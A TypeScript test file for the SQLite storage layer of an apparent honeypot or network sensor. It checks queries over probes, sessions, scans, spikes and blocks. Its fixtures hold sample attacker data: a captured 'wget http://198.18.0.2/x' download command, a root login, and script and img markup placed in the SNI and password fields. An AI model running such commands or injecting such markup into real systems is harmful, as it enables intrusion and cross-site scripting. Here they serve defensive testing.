// Events in through the bus, queries out: every QueryStore method with exact expectations, payload dedup,
// and the probe origin rule (listener probes count when capture is off; capture probes are ignored then).
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import Database from 'better-sqlite3';

import { EventBus } from '../core/bus.js';
import type { SensorContext } from '../core/context.js';
import type { BlockEvent, ProbeEvent, ScanEvent, SessionEvent, SpikeEvent } from '../core/events.js';
import { createLogger } from '../core/log.js';
import { Stats } from '../core/stats.js';
import { openStore, type StoreComponent } from './index.js';
import { DB_FILE } from './sqlite/db.js';

const T0 = Date.UTC(2026, 0, 10, 12, 0, 0);
const iso = (ms: number): string => new Date(ms).toISOString();
const H = 3_600_000;
const b64 = (s: string): string => Buffer.from(s, 'latin1').toString('base64');
const SSH = 'SSH-2.0-Go\r\n';

const probe = (time: number, src: string, dport: number, over: Partial<ProbeEvent> = {}): ProbeEvent => ({
  type: 'probe',
  time,
  via: 'listener',
  proto: 'tcp',
  kind: 'connect',
  src,
  dst: '198.18.0.1',
  sport: 40000,
  dport,
  handshake: true,
  ...over,
});

const session = (
  t: number,
  src: string,
  dport: number,
  reads: string[],
  over: Partial<SessionEvent> = {},
): SessionEvent => ({
  type: 'session',
  ts: iso(t + 500),
  sensor: 'test',
  proto: 'tcp',
  src,
  sport: 40000,
  dst: '198.18.0.1',
  dport,
  started: iso(t),
  ended: iso(t + 500),
  bytes: reads.join('').length,
  truncated: false,
  close: 'fin',
  payloads: reads.map((r, index) => ({ index, timestamp: iso(t), data: b64(r) })),
  ...over,
});

const scan = (
  id: string,
  src: string,
  state: ScanEvent['state'],
  ports: number,
  last: number,
  tool?: string,
): ScanEvent => ({
  type: 'scan',
  ts: iso(last),
  sensor: 'test',
  id,
  state,
  src,
  kind: 'vertical',
  probe: 'syn',
  ports,
  hosts: 1,
  probes: ports,
  window_s: 60,
  first_seen: iso(T0 + 1000),
  last_seen: iso(last),
  handshake_completed: false,
  action: 'logged',
  ...(tool ? { tool } : {}),
});

describe('SQLite store: events in, queries out', () => {
  let dir: string;
  let store: StoreComponent;
  const stats = new Stats();
  const spike: SpikeEvent = {
    type: 'spike',
    ts: iso(T0 + 30_000),
    sensor: 'test',
    proto: 'tcp',
    dport: 22,
    interval_s: 60,
    count: 40,
    baseline: { mean: 2, sd: 1, method: 'ewma' },
    score: 38,
  };
  const later = Date.now() + H;

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'tw-store-'));
    const bus = new EventBus();
    bus.onError = (e) => {
      throw e;
    };
    const cfg = {
      dataDir: dir,
      bufsize: 8192,
      capture: '',
      retainDays: 30,
      retainCounterDays: 400,
      maxDisk: 1e9,
    } as unknown as SensorContext['cfg'];
    const ctx: SensorContext = { cfg, bus, log: createLogger('silent'), stats };
    store = (await openStore(ctx, { flushMs: 10_000 }))!;
    bus.emit(probe(T0, '8.8.8.8', 22));
    bus.emit(probe(T0 + 1000, '8.8.8.8', 22));
    bus.emit(probe(T0 + 61_000, '8.8.8.8', 22));
    bus.emit(probe(T0 + 2000, '1.1.1.1', 80));
    bus.emit(probe(T0 + 3000, '9.9.9.9', 53, { proto: 'udp', kind: 'udp', handshake: false }));
    // Capture runs not: its probes must not be counted twice.
    bus.emit(probe(T0, '8.8.8.8', 23, { via: 'capture', kind: 'syn' }));
    bus.emit(
      session(T0, '8.8.8.8', 22, ['SSH-2.0', '-Go\r\n'], {
        tags: [{ name: 'zgrab', confidence: 0.9 }],
        geo: { cc: 'US', asn: 15169, org: 'Google LLC' },
      }),
    );
    bus.emit(
      session(T0 + 2000, '1.1.1.1', 80, ['GET / HTTP/1.1\r\n'], {
        geo: { cc: 'AU', asn: 13335, org: 'Cloudflare, Inc.' },
        persona: 'http',
        sent: [{ index: 0, timestamp: new Date(T0).toISOString(), data: b64('HTTP/1.1 200 OK\r\n') }],
        http: [{ method: 'GET', path: '/<b>', user_agent: 'x' }],
        credentials: [{ username: 'root', password: '<img src=x>' }],
        commands: ['wget http://198.18.0.2/x'],
      }),
    );
    bus.emit(
      session(T0 + 61_000, '8.8.8.8', 22, [SSH], {
        proto: 'tls',
        tls: { version: 'TLSv1.3', sni: '<script>x</script>', ja3: '771,4865', ja4: 't13d' },
      }),
    );
    bus.emit(session(T0 + 3000, '9.9.9.9', 53, [], { proto: 'udp', close: 'timeout' }));
    bus.emit(scan('scan-1', '8.8.8.8', 'open', 10, T0 + 40 * 60_000));
    bus.emit(scan('scan-1', '8.8.8.8', 'update', 25, T0 + 50 * 60_000, 'masscan'));
    bus.emit(scan('scan-2', '5.5.5.5', 'closed', 100, T0 + 10 * 60_000));
    bus.emit(spike);
    const block = (t: number, src: string, action: BlockEvent['action'], until?: number): BlockEvent => ({
      type: 'block',
      ts: iso(t),
      sensor: 'test',
      action,
      src,
      reason: 'scan',
      ...(until ? { until: iso(until) } : {}),
    });
    bus.emit(block(T0 + 5000, '8.8.8.8', 'added', later));
    bus.emit(block(T0 + 5000, '1.1.1.1', 'added', later));
    bus.emit(block(T0 + 6000, '1.1.1.1', 'expired'));
    (store as unknown as { writer: { flush(): number } }).writer.flush();
  });

  after(async () => {
    await store.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('summary', async () => {
    const s = await store.query.summary({ from: T0, to: T0 + H });
    assert.deepEqual(s.totals, { sessions: 4, attempts: 5, sources: 3, scans: 2, spikes: 1, blocks: 2 });
    assert.deepEqual(s.rates, { sessions_per_min: 0, attempts_per_min: 0 });
    assert.deepEqual(s.top_ports, [
      { proto: 'tcp', port: 22, all: 3, new: 3, sessions: 2 },
      { proto: 'udp', port: 53, all: 1, new: 1, sessions: 1 },
      { proto: 'tcp', port: 80, all: 1, new: 1, sessions: 1 },
    ]);
    // Heaviest first (all-time attempts); ties in any order.
    assert.deepEqual(s.top_sources.map((r) => [r.ip, r.attempts, r.sessions]).sort(), [
      ['1.1.1.1', 1, 1],
      ['8.8.8.8', 3, 2],
      ['9.9.9.9', 1, 1],
    ]);
    assert.equal(s.top_sources[0]?.ip, '8.8.8.8');
    // Sessions of 8.8.8.8 (geo from its first session) and of 1.1.1.1; 9.9.9.9 has no geo.
    assert.deepEqual(s.top_countries, [
      { cc: 'US', count: 2 },
      { cc: 'AU', count: 1 },
    ]);
    assert.deepEqual(s.top_asns, [
      { asn: 15169, org: 'Google LLC', count: 2 },
      { asn: 13335, org: 'Cloudflare, Inc.', count: 1 },
    ]);
    assert.deepEqual(
      s.active_scans.map((x) => [x.id, x.state, x.ports]),
      [['scan-1', 'update', 25]],
    );
    assert.deepEqual(s.spikes, [spike]);
    // Current rates: the last five whole minutes before `to`.
    const r = await store.query.summary({ from: T0, to: T0 + 5 * 60_000 });
    assert.deepEqual(r.rates, { sessions_per_min: 4 / 5, attempts_per_min: 5 / 5 });
  });

  it('sums ragged ranges from minute and hour counters alike', async () => {
    // From the second minute on, three hours long: minute rows at the start, hourly rows after.
    const s = await store.query.summary({ from: T0 + 61_000, to: T0 + 3 * H });
    assert.equal(s.totals.attempts, 1);
    assert.equal(s.totals.sessions, 1);
    const all = await store.query.summary({ from: T0 - 2 * H, to: T0 + 5 * H });
    assert.equal(all.totals.attempts, 5);
  });

  it('topPorts', async () => {
    assert.deepEqual(await store.query.topPorts({ from: T0, to: T0 + H, proto: 'udp', limit: 10 }), [
      { proto: 'udp', port: 53, all: 1, new: 1, sessions: 1 },
    ]);
    assert.deepEqual(
      (await store.query.topPorts({ from: T0, to: T0 + H, limit: 1 })).map((p) => p.port),
      [22],
    );
    assert.deepEqual(await store.query.topPorts({ from: T0 + 2 * H, to: T0 + 3 * H, limit: 5 }), []);
  });

  it('portSeries by minute, hour and day, dense', async () => {
    const q = { proto: 'tcp' as const, port: 22 };
    assert.deepEqual(await store.query.portSeries({ ...q, step: 'minute', from: T0, to: T0 + 3 * 60_000 }), [
      { t: T0, all: 2, new: 2, sessions: 1 },
      { t: T0 + 60_000, all: 1, new: 1, sessions: 1 },
      { t: T0 + 120_000, all: 0, new: 0, sessions: 0 },
    ]);
    assert.deepEqual(await store.query.portSeries({ ...q, step: 'hour', from: T0, to: T0 + 2 * H }), [
      { t: T0, all: 3, new: 3, sessions: 2 },
      { t: T0 + H, all: 0, new: 0, sessions: 0 },
    ]);
    const day = Date.UTC(2026, 0, 10);
    assert.deepEqual(await store.query.portSeries({ ...q, step: 'day', from: day, to: day + 86_400_000 }), [
      { t: day, all: 3, new: 3, sessions: 2 },
    ]);
  });

  it('sources, paged, and on one port', async () => {
    const p = await store.query.sources({ from: T0, to: T0 + H, limit: 2, offset: 0 });
    assert.equal(p.total, 3);
    assert.deepEqual(
      p.rows.map((r) => r.ip),
      ['8.8.8.8', '9.9.9.9'],
    );
    const p2 = await store.query.sources({ from: T0, to: T0 + H, limit: 2, offset: 2 });
    assert.deepEqual(
      p2.rows.map((r) => r.ip),
      ['1.1.1.1'],
    );
    const on22 = await store.query.sources({ from: T0, to: T0 + H, port: 22, limit: 10, offset: 0 });
    assert.equal(on22.total, 1);
    assert.deepEqual(
      on22.rows.map((r) => [r.ip, r.attempts]),
      [['8.8.8.8', 3]],
    );
  });

  it('source', async () => {
    assert.deepEqual(await store.query.source('8.8.8.8'), {
      ip: '8.8.8.8',
      first_seen: T0,
      last_seen: T0 + 50 * 60_000,
      sessions: 2,
      attempts: 3,
      ports: 1,
      sensors: 1,
      tags: [
        { name: 'masscan', confidence: 1 },
        { name: 'zgrab', confidence: 0.9 },
      ],
      geo: { cc: 'US', asn: 15169, org: 'Google LLC' },
    });
    assert.equal(await store.query.source('7.7.7.7'), undefined);
  });

  it('sessions: filters, text in payload, paging', async () => {
    const ids = async (q: Parameters<StoreComponent['query']['sessions']>[0]): Promise<[string, number][]> =>
      (await store.query.sessions(q)).rows.map((r) => [r.src, r.dport]);
    const page = { limit: 10, offset: 0 };
    assert.deepEqual(await ids(page), [
      ['8.8.8.8', 22],
      ['9.9.9.9', 53],
      ['1.1.1.1', 80],
      ['8.8.8.8', 22],
    ]);
    assert.equal((await store.query.sessions(page)).total, 4);
    const ssh = await store.query.sessions({ ...page, text: 'SSH-2.0' });
    assert.equal(ssh.total, 2);
    assert.ok(ssh.rows.every((r) => Buffer.from(r.payload, 'base64').toString('latin1') === SSH));
    assert.deepEqual(await ids({ ...page, text: 'nothing like this' }), []);
    assert.deepEqual(await ids({ ...page, port: 80 }), [['1.1.1.1', 80]]);
    assert.deepEqual(await ids({ ...page, src: '9.9.9.9' }), [['9.9.9.9', 53]]);
    assert.deepEqual(await ids({ ...page, proto: 'tls' }), [['8.8.8.8', 22]]);
    assert.deepEqual(await ids({ ...page, from: T0 + 1000, to: T0 + 61_000 }), [
      ['9.9.9.9', 53],
      ['1.1.1.1', 80],
    ]);
    const p = await store.query.sessions({ limit: 1, offset: 1 });
    assert.equal(p.total, 4);
    assert.deepEqual(
      p.rows.map((r) => r.src),
      ['9.9.9.9'],
    );
  });

  it('session: one, with payload, TLS, tags and geo', async () => {
    const last = (await store.query.sessions({ limit: 1, offset: 0 })).rows[0]!;
    const first = (await store.query.sessions({ limit: 1, offset: 3 })).rows[0]!;
    assert.deepEqual(await store.query.session(first.id), {
      id: first.id,
      ts: iso(T0),
      ended: iso(T0 + 500),
      proto: 'tcp',
      src: '8.8.8.8',
      sport: 40000,
      dst: '198.18.0.1',
      dport: 22,
      bytes: SSH.length,
      truncated: false,
      close: 'fin',
      payload: b64(SSH),
      tags: [{ name: 'zgrab', confidence: 0.9 }],
      geo: { cc: 'US', asn: 15169, org: 'Google LLC' },
    });
    const tls = await store.query.session(last.id);
    assert.deepEqual(tls?.tls, {
      version: 'TLSv1.3',
      sni: '<script>x</script>',
      ja3: '771,4865',
      ja4: 't13d',
    });
    const udp = (await store.query.sessions({ limit: 1, offset: 0, proto: 'udp' })).rows[0]!;
    assert.equal(udp.payload, '');
    assert.equal(udp.persona, undefined);
    const http = (await store.query.sessions({ limit: 1, offset: 0, src: '1.1.1.1' })).rows[0]!;
    const { persona, sent, http: reqs, credentials, commands } = (await store.query.session(http.id))!;
    assert.deepEqual(
      { persona, sent, reqs, credentials, commands },
      {
        persona: 'http',
        sent: b64('HTTP/1.1 200 OK\r\n'),
        reqs: [{ method: 'GET', path: '/<b>', user_agent: 'x' }],
        credentials: [{ username: 'root', password: '<img src=x>' }],
        commands: ['wget http://198.18.0.2/x'],
      },
    );
    assert.equal(await store.query.session(999_999), undefined);
  });

  it('payloads are stored once per content', () => {
    const db = new Database(join(dir, DB_FILE), { readonly: true });
    try {
      assert.deepEqual(db.prepare('SELECT count(*) n FROM payloads').get(), { n: 2 });
      assert.deepEqual(db.prepare('SELECT count(DISTINCT payload_id) n FROM sessions').get(), { n: 2 });
    } finally {
      db.close();
    }
  });

  it('scans: one row per episode, latest state', async () => {
    const p = await store.query.scans({ from: T0, to: T0 + H, limit: 10, offset: 0 });
    assert.equal(p.total, 2);
    assert.deepEqual(
      p.rows.map((s) => [s.id, s.state, s.ports, s.tool]),
      [
        ['scan-1', 'update', 25, 'masscan'],
        ['scan-2', 'closed', 100, undefined],
      ],
    );
    const one = await store.query.scans({ from: T0, to: T0 + H, limit: 10, offset: 0, src: '5.5.5.5' });
    assert.deepEqual(
      one.rows.map((s) => s.id),
      ['scan-2'],
    );
    assert.equal(
      (await store.query.scans({ from: T0 + 2 * H, to: T0 + 3 * H, limit: 10, offset: 0 })).total,
      0,
    );
  });

  it('spikes', async () => {
    assert.deepEqual(await store.query.spikes({ from: T0, to: T0 + H, limit: 10, offset: 0 }), {
      rows: [spike],
      total: 1,
    });
    assert.deepEqual(await store.query.spikes({ from: T0, to: T0 + H, limit: 10, offset: 0, port: 23 }), {
      rows: [],
      total: 0,
    });
  });

  it('blocks, all and active', async () => {
    const all = await store.query.blocks({ limit: 10, offset: 0 });
    assert.equal(all.total, 3);
    assert.deepEqual(all.rows[0], {
      src: '1.1.1.1',
      added: iso(T0 + 6000),
      reason: 'scan',
      action: 'expired',
    });
    assert.deepEqual(await store.query.blocks({ active: true, limit: 10, offset: 0 }), {
      rows: [{ src: '8.8.8.8', added: iso(T0 + 5000), until: iso(later), reason: 'scan', action: 'added' }],
      total: 1,
    });
  });

  it("dailyRows: Tsusen's rows of one UTC day", async () => {
    const s = Math.floor(T0 / 1000);
    assert.deepEqual(await store.query.dailyRows('2026-01-10'), [
      {
        proto: 'TCP',
        dst_port: 22,
        dst_ip: '198.18.0.1',
        src_ip: '8.8.8.8',
        first_seen: s,
        last_seen: s + 61,
        count: 3,
      },
      {
        proto: 'TCP',
        dst_port: 80,
        dst_ip: '198.18.0.1',
        src_ip: '1.1.1.1',
        first_seen: s + 2,
        last_seen: s + 2,
        count: 1,
      },
      {
        proto: 'UDP',
        dst_port: 53,
        dst_ip: '198.18.0.1',
        src_ip: '9.9.9.9',
        first_seen: s + 3,
        last_seen: s + 3,
        count: 1,
      },
    ]);
    assert.deepEqual(await store.query.dailyRows('2026-01-11'), []);
    await assert.rejects(store.query.dailyRows('2026-1-1'), { code: 'TW_ERR_STORE' });
  });
});
